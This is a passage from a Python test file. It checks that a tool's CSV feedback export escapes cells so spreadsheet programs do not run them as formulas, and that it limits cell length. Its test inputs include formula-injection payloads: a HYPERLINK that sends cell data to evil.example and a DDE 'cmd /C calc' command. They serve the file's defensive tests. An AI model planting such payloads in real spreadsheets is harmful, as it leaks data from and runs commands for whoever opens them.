    "@SUM(A1)",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_as_a_formula(folder: Path, run: Run, formula: str) -> None:
    feedback = Feedback(
        verdict="bad",
        question=formula,
        answer=formula,
        reason=formula,
        citations=((formula, "q"),),
        language=formula[:5],
    )
    keep_feedback(feedback, folder / "index")
    run("feedback", "--csv", "out.csv")
    (row,) = table(folder / "out.csv")
    for name in ("question", "answer", "reason", "citations", "language"):
        assert row[name].startswith("'"), name
        assert row[name].replace("'", "").startswith(formula.strip()[0])


@given(st.text(alphabet="=+-@＝; \t\n\r\"',a1\u3000"))
@example('a;=HYPERLINK("x")')
@example('a\n"=1')
@example("a; '=1")
def test_no_reader_of_the_table_sees_a_formula_whatever_it_takes_for_the_mark_between_cells(
    text: str,
) -> None:
    stream = io.StringIO()
    csv.writer(stream).writerow([1, _cell(text), "end"])
    for mark in ",;":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            if (mark, quoting) == (",", csv.QUOTE_NONE):
                continue  # a reader that is told of commas is told of quotes too
            stream.seek(0)
            lines = stream.read().splitlines() if mark == ";" else [stream.getvalue()]
            for row in csv.reader(lines, delimiter=mark, quoting=quoting, escapechar=None):
                assert not [cell for cell in row if re.match(r"[\s\"]*[=+\-@＝\t]", cell)]


def test_a_cell_is_no_longer_than_excel_takes(folder: Path, run: Run) -> None:
    lines = "\n".join(["=1"] * (MAX_ANSWER_CHARS // 3))
    citations = (("p" * 9999, "q" * 9999),) * 99
    keep_feedback(dataclasses.replace(said(answer=lines), citations=citations), folder / "index")
    run("feedback", "--csv", "out.csv")
    (row,) = table(folder / "out.csv")
    assert max(map(len, row.values())) == len(row["citations"]) == MAX_CELL_CHARS


def test_a_table_that_cannot_be_written_is_one_line(folder: Path, run: Run) -> None:
    keep_feedback(said(), folder / "index")
    for path in ("nowhere/out.csv", "corpus"):
        message = assert_is_one_error_line(run("feedback", "--csv", path))
        assert path in message
        assert "--csv" in message
